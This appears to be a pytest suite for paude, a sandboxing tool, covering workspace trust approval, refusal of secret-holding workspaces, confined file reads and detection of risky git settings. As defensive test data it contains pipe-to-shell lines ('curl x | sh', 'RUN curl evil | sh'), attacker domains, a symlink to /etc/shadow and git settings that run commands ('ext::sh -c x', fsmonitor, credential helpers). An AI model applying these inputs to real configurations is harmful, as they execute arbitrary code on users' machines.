"""Workspace trust, refusal, confined host paths and git guards (no podman)."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from paude.runner import SystemRunner
from paude.trust.approval import (
    Record,
    evaluate,
    explain,
    load_record,
    only_narrows,
    record_path,
    save_record,
)
from paude.trust.git import (
    config_file_of,
    find_guard_mounts,
    find_risky_settings,
    git_dir_of,
    parse_config_list,
    run_read_config,
)
from paude.trust.paths import PROTECTED_PATTERNS, never_sync_back
from paude.trust.refuse import (
    HostPathRefusedError,
    WorkspaceRefusedError,
    check_workspace,
    read_confined,
)


def pj(data: object) -> dict[str, str]:
    return {"paude.json": json.dumps(data)}


APPROVED = pj({"allowed_domains": [".a.example", "b.example"], "image": {"packages": ["jq"]}})


def test_same_files_are_trusted_and_no_files_need_no_trust() -> None:
    record = _record(APPROVED)
    assert evaluate(APPROVED, record).trusted
    assert evaluate({}, None).trusted


def test_first_use_is_not_trusted_and_says_so() -> None:
    verdict = evaluate(APPROVED, None)
    assert not verdict.trusted
    assert verdict.reasons[0] == "first use of this workspace's configuration"
    assert "paude.json: allowed_domains adds .a.example, b.example" in verdict.reasons
    assert "+++ paude.json" in verdict.diff


@pytest.mark.parametrize(("change", "reason"), [
    ({"allowed_domains": [".a.example", "b.example", ".attacker.example"]},
     "paude.json: allowed_domains adds .attacker.example"),
    ({"image": {"packages": ["jq"], "setup_command": "curl x | sh"}},
     "paude.json: image.setup_command = 'curl x | sh'"),
    ({"image": {"packages": ["jq"], "base": "evil/base"}}, "paude.json: image.base = 'evil/base'"),
    ({"extra_ca_certificates": ["ca.pem"]}, 'paude.json: extra_ca_certificates = ["ca.pem"]'),
    ({"backend": {"type": "openshift"}}, "paude.json: backend.type = 'openshift'"),
])
def test_widening_or_building_changes_need_approval(change: dict[str, object], reason: str) -> None:
    base = json.loads(APPROVED["paude.json"])
    verdict = evaluate(pj({**base, **change}), _record(APPROVED))
    assert not verdict.trusted
    assert reason in verdict.reasons, verdict.reasons
    assert "--- approved/paude.json" in verdict.diff


def test_only_narrowing_the_allowlist_applies_without_asking() -> None:
    narrower = pj({"image": {"packages": ["jq"]}, "allowed_domains": ["b.example"]})
    verdict = evaluate(narrower, _record(APPROVED))
    assert verdict.trusted and verdict.narrowed
    assert only_narrows(APPROVED, narrower)
    # Narrowing plus anything else is not narrowing.
    mixed = pj({"image": {"packages": ["jq", "git"]}, "allowed_domains": ["b.example"]})
    assert not evaluate(mixed, _record(APPROVED)).trusted


def test_devcontainer_and_dockerfile_changes_need_approval() -> None:
    files = {**APPROVED, ".devcontainer/devcontainer.json": '{"build": {"dockerfile": "D"}}',
             ".devcontainer/D": "FROM debian\n"}
    changed = {**files, ".devcontainer/D": "FROM debian\nRUN curl evil | sh\n"}
    verdict = evaluate(changed, _record(files))
    assert not verdict.trusted
    assert verdict.reasons == (".devcontainer/D: changed",)
    assert "+RUN curl evil | sh" in verdict.diff
    added = {**APPROVED, ".devcontainer.json": '{"image": "x"}'}
    assert explain(APPROVED, added) == (".devcontainer.json: image = 'x'",)


def test_record_lives_outside_the_workspace_and_round_trips(tmp_path: Path) -> None:
    ws, state = tmp_path / "ws", tmp_path / "state"
    path = save_record(state, ws, APPROVED)
    assert path == record_path(state, ws) and state in path.parents
    assert path.stat().st_mode & 0o777 == 0o600
    record = load_record(state, ws)
    assert record is not None and dict(record.files) == APPROVED
    assert load_record(state, tmp_path / "other") is None
    path.write_text("{broken")
    assert load_record(state, ws) is None  # damaged: nothing is trusted


def _record(files: dict[str, str]) -> Record:
    return Record("/ws", files)


# --- refusal -------------------------------------------------------------


def test_root_home_and_secret_holding_workspaces_are_refused(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / "proj").mkdir()
    for ws, why in [(Path("/"), "root directory"), (home, "your home directory"),
                    (tmp_path, "contains ~/.ssh"), (home / ".ssh", "inside ~/.ssh")]:
        with pytest.raises(WorkspaceRefusedError, match=why) as info:
            check_workspace(ws, home)
        assert "\n" not in info.value.message and info.value.exit_code == 2
    check_workspace(home / "proj", home)  # a project directory is fine
    state = home / ".local" / "state" / "paude"  # need not exist yet
    with pytest.raises(WorkspaceRefusedError, match=r"contains .*/\.local/state/paude"):
        check_workspace(home / ".local", home, [state])
    with pytest.raises(WorkspaceRefusedError, match=r"is inside .*/\.config/paude"):
        check_workspace(home / ".config" / "paude", home, [home / ".config" / "paude"])


def test_confined_read_refuses_a_symlink_to_etc_shadow(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "ca.pem").symlink_to("/etc/shadow")
    with pytest.raises(HostPathRefusedError, match=r"resolves to /etc/shadow, outside"):
        read_confined(ws / "ca.pem", [ws], what="extra CA certificate file")
    (ws / "real.pem").write_text("PEM")
    (ws / "link.pem").symlink_to("real.pem")
    assert read_confined(ws / "link.pem", [ws], what="x") == (b"PEM", ws / "real.pem")


# --- git -----------------------------------------------------------------


def _git(ws: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(ws), *args], check=True, capture_output=True)


def test_risky_git_settings_are_found_by_git_itself(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    _git(ws, "init", "-q")
    for key, value in [("core.fsmonitor", "touch /tmp/x"), ("core.hooksPath", ".githooks"),
                       ("core.sshCommand", "ssh -i k"), ("filter.f.clean", "cat"),
                       ("diff.d.textconv", "cat"), ("merge.m.driver", "cat"),
                       ("user.name", "fine"), ("core.fsmonitor", "false")]:
        _git(ws, "config", "--add", key, value)
    git_dir = git_dir_of(ws)
    assert git_dir == ws / ".git"
    entries = run_read_config(SystemRunner(), config_file_of(git_dir))
    risky = find_risky_settings(entries, ws)
    assert risky == ["core.fsmonitor=touch /tmp/x", "core.hookspath=.githooks",
                     "core.sshcommand=ssh -i k", "filter.f.clean=cat", "diff.d.textconv=cat",
                     "merge.m.driver=cat"]
    assert find_risky_settings([("core.hookspath", "/usr/share/hooks")], ws) == []


@pytest.mark.parametrize(("key", "value"), [
    ("core.pager", "sh -c x"), ("pager.log", "./x"), ("core.editor", "./x"),
    ("sequence.editor", "./x"), ("gpg.program", "./x"), ("gpg.ssh.program", "./x"),
    ("credential.helper", "!x"), ("credential.https://h.example.helper", "./x"),
    ("core.askPass", "./x"), ("core.gitProxy", "./x"), ("core.alternateRefsCommand", "x"),
    ("alias.st", "!x"), ("submodule.m.update", "!x"), ("remote.o.url", "ext::sh -c x"),
    ("remote.o.uploadpack", "./x"), ("mergetool.t.cmd", "x"), ("trailer.t.cmd", "x"),
])
def test_settings_that_run_on_commit_log_or_push_are_named(
    tmp_path: Path, key: str, value: str
) -> None:
    _git(tmp_path, "init", "-q")
    _git(tmp_path, "config", key, value)
    entries = run_read_config(SystemRunner(), tmp_path / ".git" / "config")
    assert [r.partition("=")[2] for r in find_risky_settings(entries, tmp_path)] == [value]


@pytest.mark.parametrize(("key", "value"), [
    ("alias.st", "status"), ("pager.log", "false"), ("credential.helper", ""),
    ("submodule.m.update", "rebase"), ("remote.o.url", "https://h.example/r.git"),
])
def test_plain_settings_are_not_named(tmp_path: Path, key: str, value: str) -> None:
    assert find_risky_settings([(key.lower(), value)], tmp_path) == []


def test_parse_config_list_keeps_newlines_in_values() -> None:
    assert parse_config_list("a.b\nx\ny\0c.d\n\0") == [("a.b", "x\ny"), ("c.d", "")]


def test_guard_mounts_pin_git_and_make_its_code_read_only(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    (ws / ".git" / "objects").mkdir(parents=True)
    (ws / ".git" / "config").write_text("")
    (ws / "paude.json").write_text("{}")
    found = find_guard_mounts(ws, hooks_path=".githooks")
    mounts = {m.path: (m.read_only, m.create) for m in found}
    g = f"{ws}/.git"
    assert mounts == {
        g: (False, None), f"{g}/config": (True, "file"), f"{g}/hooks": (True, "dir"),
        f"{g}/info": (True, "dir"), f"{g}/commondir": (True, "file"),
        f"{ws}/.githooks": (True, "dir"),
        f"{ws}/paude.json": (True, None)}


def test_a_dot_git_file_is_read_only(tmp_path: Path) -> None:
    ws = tmp_path / "wt"
    ws.mkdir()
    (ws / ".git").write_text(f"gitdir: {tmp_path}/main/.git/worktrees/wt\n")
    assert [(m.path, m.read_only) for m in find_guard_mounts(ws)] == [(f"{ws}/.git", True)]
    assert git_dir_of(ws) == tmp_path / "main" / ".git" / "worktrees" / "wt"


@pytest.mark.parametrize(("path", "protected"), [
    (".git/config", True), (".git/hooks/pre-commit", True), (".git/info/attributes", True),
    (".git/commondir", True), ("sub/.git/config", True), (".git/modules/x/config", True),
    ("paude.json", True), (".devcontainer/Dockerfile", True), (".devcontainer.json", True),
    (".git/objects/ab/cdef", False), (".git/refs/heads/main", False), ("src/config", False),
    ("./.git/HEAD", False), ("docs/paude.json", False),
])
def test_never_sync_back(path: str, protected: bool) -> None:
    assert never_sync_back(path) is protected


def test_dot_git_file_is_protected_but_the_directory_is_not() -> None:
    assert never_sync_back(".git") and not never_sync_back(".git", is_dir=True)
    assert "/.git/config" in PROTECTED_PATTERNS and "**/.git/hooks" in PROTECTED_PATTERNS


def test_mount_points_are_created_only_when_missing(tmp_path: Path) -> None:
    from paude.trust.git import apply_mount_points

    ws = tmp_path / "ws"
    (ws / ".git").mkdir(parents=True)
    mounts = find_guard_mounts(ws)
    apply_mount_points(mounts, (os.getuid(), os.getgid()))
    assert (ws / ".git" / "hooks").is_dir() and (ws / ".git" / "config").read_text() == ""
    assert (ws / ".git" / "commondir").read_text() == ".\n"  # git: "this directory"
    with_ext = {m.path for m in find_guard_mounts(ws, worktree_config=True)}
    assert f"{ws}/.git/config.worktree" in with_ext
    assert f"{ws}/.git/config.worktree" not in {m.path for m in find_guard_mounts(ws)}


def test_proxy_is_built_on_paudes_own_base_whatever_the_config_says() -> None:
    from paude.backends.images import proxy_image_spec
    from paude.config.models import DEFAULT_BASE_IMAGE, PaudeConfig

    config = PaudeConfig.model_validate({"image": {"base": "attacker.example/squid-ish"}})
    assert proxy_image_spec(config).base_image == DEFAULT_BASE_IMAGE
